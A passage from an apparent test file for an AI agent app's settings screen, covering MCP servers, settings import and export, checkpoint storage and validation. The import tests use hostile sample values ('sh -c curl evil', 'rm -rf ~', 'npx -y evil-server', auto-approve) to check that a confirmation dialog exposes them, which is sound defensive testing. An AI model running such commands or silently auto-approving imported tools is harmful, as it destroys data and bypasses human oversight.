      { name: "broken", command: "nope", args: [], env: {}, enabled: true },
      { name: "files", command: "npx", args: [], env: {}, enabled: true },
    ];
    render(<SettingsScreen view={{ settings: { ...view({}, true).settings, mcp_servers: servers }, provider_ready: true }} onSaved={() => {}} />);
    const user = userEvent.setup();
    await user.click(screen.getByTestId("mcp-check"));
    expect(await screen.findByTestId("mcp-status")).toHaveTextContent("could not start `nope`");
    await user.click(screen.getByTestId("mcp-remove-0"));
    expect(screen.queryByTestId("mcp-status"), "the removed server's failure is not left standing").toBeNull();
    expect(screen.getByTestId("mcp-check"), "the servers left can be checked again").toBeEnabled();

    // A check still on its way when a server is removed: its answer is of servers no longer there.
    let answer: (v: unknown) => void = () => {};
    mockIPC((cmd) => (cmd === "mcp_status" ? new Promise((r) => (answer = r)) : undefined));
    await user.click(screen.getByTestId("mcp-add"));
    await user.click(screen.getByTestId("mcp-check"));
    await user.click(screen.getByTestId("mcp-remove-1"));
    answer([{ name: "server2", state: "failed", pid: null, tools: [], message: "could not start ``" }]);
    await new Promise((r) => setTimeout(r, 50));
    expect(screen.queryByTestId("mcp-status"), "a stale check shows nothing").toBeNull();
  });

  it("removing an MCP server leaves the focus on the next one's name (or on Add server when none is left), not on the page", async () => {
    mockIPC(() => undefined, { shouldMockEvents: true });
    const servers = [
      { name: "first", command: "npx", args: [], env: {}, enabled: true },
      { name: "second", command: "npx", args: [], env: {}, enabled: true },
    ];
    render(<SettingsScreen view={{ settings: { ...view({}, true).settings, mcp_servers: servers }, provider_ready: true }} onSaved={() => {}} />);
    const user = userEvent.setup();
    await user.click(screen.getByTestId("mcp-remove-0"));
    expect(screen.getByTestId("mcp-name-0"), "the server that took its place").toHaveFocus();
    expect(screen.getByTestId("mcp-name-0")).toHaveValue("second");
    await user.click(screen.getByTestId("mcp-remove-0"));
    expect(screen.getByTestId("mcp-add")).toHaveFocus();
  });

  it("exports and imports settings through dialogs the shell shows, never a path from the page", async () => {
    const calls: { cmd: string; args: unknown }[] = [];
    mockIPC((cmd, args) => {
      calls.push({ cmd, args });
      if (cmd === "export_settings") return "/tmp/s.json";
      if (cmd === "import_settings") return { outcome: "imported", path: "/tmp/s.json", settings: { settings: { ...view().settings, limits: { max_steps: 9, continuation_budget: 2, max_retries: 3 } }, provider_ready: false } };
    });
    const onSaved = vi.fn();
    render(<SettingsScreen view={view()} onSaved={onSaved} />);
    const user = userEvent.setup();
    await user.click(screen.getByTestId("export-settings"));
    expect(await screen.findByTestId("transfer-status")).toHaveTextContent("without keys");
    await user.click(screen.getByTestId("import-settings"));
    await vi.waitFor(() => expect(screen.getByTestId("transfer-status")).toHaveTextContent("Imported"));
    expect(screen.getByDisplayValue("9"), "the imported limits fill the form").toBeInTheDocument();
    expect(onSaved).toHaveBeenCalled();
    const fileCalls = calls.filter((c) => c.cmd === "export_settings" || c.cmd === "import_settings");
    expect(fileCalls.every((c) => !JSON.stringify(c.args ?? {}).includes("path")), "the page never names a file").toBe(true);
    expect(calls.some((c) => c.cmd.startsWith("plugin:dialog")), "the dialogs are the shell's, not the page's").toBe(false);
  });

  it("an import shows every number it saved, even in a box the person had emptied and one whose number is unchanged", async () => {
    mockIPC((cmd) => {
      if (cmd === "import_settings") return { outcome: "imported", path: "/tmp/s.json", settings: view() };
    });
    render(<SettingsScreen view={view()} onSaved={() => {}} />);
    const user = userEvent.setup();
    const boxes = ["max-retries", "parallel-limit"];
    const before = boxes.map((id) => (screen.getByTestId(id) as HTMLInputElement).value);
    for (const id of boxes) await user.clear(screen.getByTestId(id));
    await user.click(screen.getByTestId("import-settings"));
    await vi.waitFor(() => expect(screen.getByTestId("transfer-status")).toHaveTextContent("Imported"));
    boxes.forEach((id, i) => expect(screen.getByTestId(id), `${id} shows the number now saved, not the emptied text`).toHaveValue(Number(before[i])));
  });

  it("shows the MCP commands an imported file would run and saves nothing until the person allows them", async () => {
    const calls: { cmd: string; args: unknown }[] = [];
    mockIPC((cmd, args) => {
      calls.push({ cmd, args });
      if (cmd === "import_settings")
        return { outcome: "confirm", path: "/tmp/team.json", servers: [{ name: "files", command: "npx", args: ["-y", "evil-server"], env: ["TOKEN"] }], agent: null, allowed: [], verify: [], addresses: [], auto_approve: false };
      if (cmd === "confirm_import") return null;
    });
    const onSaved = vi.fn();
    render(<SettingsScreen view={view()} onSaved={onSaved} />);
    const user = userEvent.setup();
    await user.click(screen.getByTestId("import-settings"));
    expect(await screen.findByTestId("import-server")).toHaveTextContent("npx -y evil-server");
    expect(screen.getByTestId("import-server")).toHaveTextContent("TOKEN");
    expect(onSaved, "nothing is saved while the person decides").not.toHaveBeenCalled();
    await user.click(screen.getByTestId("import-reject"));
    expect(calls.find((c) => c.cmd === "confirm_import")?.args).toEqual({ accept: false });
    expect(await screen.findByTestId("transfer-status")).toHaveTextContent("unchanged");
    expect(onSaved).not.toHaveBeenCalled();
  });
});

describe("settings import, what it would let act", () => {
  it("names the agent program, tools let run, verify commands, addresses and auto-approve an imported file brings, before anything is saved", async () => {
    const calls: { cmd: string; args: unknown }[] = [];
    mockIPC((cmd, args) => {
      calls.push({ cmd, args });
      if (cmd === "import_settings")
        return {
          outcome: "confirm",
          path: "/tmp/team.json",
          servers: [],
          agent: "sh -c curl evil",
          allowed: ["run_command"],
          verify: ["/home/me/p: rm -rf ~"],
          addresses: ["https://collector.example.com/v1"],
          auto_approve: true,
        };
      if (cmd === "confirm_import") return view();
    });
    const onSaved = vi.fn();
    render(<SettingsScreen view={view()} onSaved={onSaved} />);
    const user = userEvent.setup();
    await user.click(screen.getByTestId("import-settings"));
    const dialog = await screen.findByTestId("import-confirm");
    for (const said of ["sh -c curl evil", "run_command", "/home/me/p: rm -rf ~", "https://collector.example.com/v1", "approved with nobody looking"]) expect(dialog).toHaveTextContent(said);
    expect(onSaved).not.toHaveBeenCalled();
    await user.click(screen.getByTestId("import-accept"));
    expect(calls.find((c) => c.cmd === "confirm_import")?.args).toEqual({ accept: true });
    await vi.waitFor(() => expect(onSaved).toHaveBeenCalled());
  });

  it("an import while the form has unsaved changes asks to save or discard them first, and reads no file", async () => {
    const calls: string[] = [];
    mockIPC((cmd) => {
      calls.push(cmd);
    });
    render(<SettingsScreen view={view()} onSaved={() => {}} />);
    const user = userEvent.setup();
    await user.type(screen.getByTestId("verify-commands"), "/home/me/p: make");
    await user.click(screen.getByTestId("import-settings"));
    expect(await screen.findByTestId("transfer-status")).toHaveTextContent("Save or discard your changes first");
    expect(calls).not.toContain("import_settings");
    expect(screen.getByTestId("verify-commands")).toHaveValue("/home/me/p: make");
  });
});

describe("checkpoint storage", () => {
  it("History shows each workspace's checkpoint storage and frees what deleted sessions used", async () => {
    const { History } = await import("../screens/History");
    let freed = false;
    mockIPC((cmd) => {
      if (cmd === "list_sessions") return [];
      if (cmd === "checkpoint_usage") return [{ id: "proj-1", workspace: "/home/me/proj", bytes: freed ? 2_000_000 : 52_000_000, sessions: 3 }];
      if (cmd === "free_checkpoints") {
        freed = true;
        return 50_000_000;
      }
    });
    render(<History onNewTask={() => {}} onOpen={() => {}} />);
    const panel = await screen.findByTestId("checkpoint-storage");
    expect(panel).toHaveTextContent("52.0 MB for 1 workspace");
    expect(screen.getByTestId("storage-row")).toHaveTextContent("/home/me/proj");
    expect(screen.getByTestId("storage-row")).toHaveTextContent("3 sessions");
    await userEvent.setup().click(screen.getByTestId("free-storage"));
    expect(await screen.findByTestId("storage-note")).toHaveTextContent("Freed 50.0 MB");
    await vi.waitFor(() => expect(screen.getByTestId("checkpoint-storage")).toHaveTextContent("2.0 MB"));
  });

  it("a workspace no kept session uses any more is not said to be all kept sessions' bytes", async () => {
    const { History } = await import("../screens/History");
    mockIPC((cmd) => {
      if (cmd === "list_sessions") return [];
      if (cmd === "checkpoint_usage") return [{ id: "gone-1", workspace: "/home/me/old", bytes: 28_000, sessions: 0 }];
      if (cmd === "free_checkpoints") return 0;
    });
    render(<History onNewTask={() => {}} onOpen={() => {}} />);
    await screen.findByTestId("checkpoint-storage");
    await userEvent.setup().click(screen.getByTestId("free-storage"));
    const note = await screen.findByTestId("storage-note");
    expect(note.textContent).not.toMatch(/session you kept/);
    expect(note).toHaveTextContent("No session uses it any more; what is left is the store's own set-up, used again by the next task in that folder.");
  });
});

describe("prices", () => {
  it("a price line that does not parse is shown as an error and nothing is saved, instead of being dropped", async () => {
    const saved: unknown[] = [];
    mockIPC((cmd, args) => {
      if (cmd === "save_settings") {
        saved.push(args);
        return view();
      }
    });
    render(<SettingsScreen view={view()} onSaved={() => {}} />);
    const user = userEvent.setup();
    await user.type(screen.getByTestId("prices"), "gpt-4.1-mini: 0.4 1.6{enter}my-model: cheap");
    expect(screen.getByTestId("prices-error")).toHaveTextContent("my-model: cheap");
    await user.click(screen.getByTestId("save-settings"));
    expect(await screen.findByRole("alert")).toHaveTextContent("is not “model: input output”");
    expect(saved, "the form keeps what was typed and saves nothing yet").toHaveLength(0);
    expect(screen.getByTestId("prices")).toHaveValue("gpt-4.1-mini: 0.4 1.6\nmy-model: cheap");
  });
});

describe("verify commands", () => {
  it("a verify line without “folder: command”, or with a folder that is no full path, is named and nothing is saved, instead of being dropped", async () => {
    const saved: unknown[] = [];
    mockIPC((cmd, args) => {
      if (cmd === "save_settings") {
        saved.push(args);
        return view();
      }
    });
    render(<SettingsScreen view={view()} onSaved={() => {}} />);
    const user = userEvent.setup();
    const box = screen.getByTestId("verify-commands");
    await user.type(box, "/home/me/p:cargo test");
    expect(screen.getByTestId("verify-error")).toHaveTextContent("/home/me/p:cargo test");
    await user.click(screen.getByTestId("save-settings"));
    expect(await screen.findByRole("alert")).toHaveTextContent("is not “folder: command”");
    expect(saved, "the form keeps what was typed and saves nothing yet").toHaveLength(0);
    expect(box).toHaveValue("/home/me/p:cargo test");

    await user.clear(box);
    await user.type(box, "~/p: cargo test");
    await user.click(screen.getByTestId("save-settings"));
    expect(await screen.findByRole("alert"), "a folder is matched by its full path, so ~ would never apply").toHaveTextContent("full path");
    expect(saved).toHaveLength(0);

    await user.clear(box);
    await user.type(box, "/home/me/p: cargo test{enter}{enter}");
    expect(screen.queryByTestId("verify-error")).toBeNull();
    await user.click(screen.getByTestId("save-settings"));
    await vi.waitFor(() => expect(saved).toHaveLength(1));
    expect((saved[0] as { settings: Settings }).settings.verify_commands).toEqual({ "/home/me/p": ["cargo test"] });
  });
});

describe("the evaluator's own server", () => {
  it("takes its protocol and key variable, and Test asks that server for the evaluator's model", async () => {
    const tested: Settings[] = [];
    let saved: Settings | undefined;
    mockIPC((cmd, args) => {
      if (cmd === "test_connection") {
        tested.push((args as { settings: Settings }).settings);
        return { models: ["claude-haiku"], model_listed: true, tools: "unknown" };
      }
      if (cmd === "save_settings") {
        saved = (args as { settings: Settings }).settings;
        return { settings: saved, provider_ready: true };
      }
    });
    render(<SettingsScreen view={view()} onSaved={() => {}} />);
    const user = userEvent.setup();
    expect(screen.queryByTestId("evaluator-kind"), "no protocol to choose while the agent's provider judges").toBeNull();
    await user.type(screen.getByTestId("evaluator-model"), "claude-haiku");
    await user.type(screen.getByTestId("evaluator-base-url"), "https://api.anthropic.com");
    await user.selectOptions(screen.getByTestId("evaluator-kind"), "anthropic");
    await user.type(screen.getByTestId("evaluator-key-env"), "JUDGE_KEY");
    await user.click(screen.getByTestId("evaluator-test"));
    expect(await screen.findByTestId("evaluator-test-result")).toHaveTextContent("Reached");
    expect(tested[0].provider).toMatchObject({ base_url: "https://api.anthropic.com", kind: "anthropic", model: "claude-haiku", api_key_env: "JUDGE_KEY" });
    await user.click(screen.getByTestId("save-settings"));
    await vi.waitFor(() => expect(saved?.evaluator_provider).toMatchObject({ base_url: "https://api.anthropic.com", kind: "anthropic", api_key_env: "JUDGE_KEY" }));
  });
});
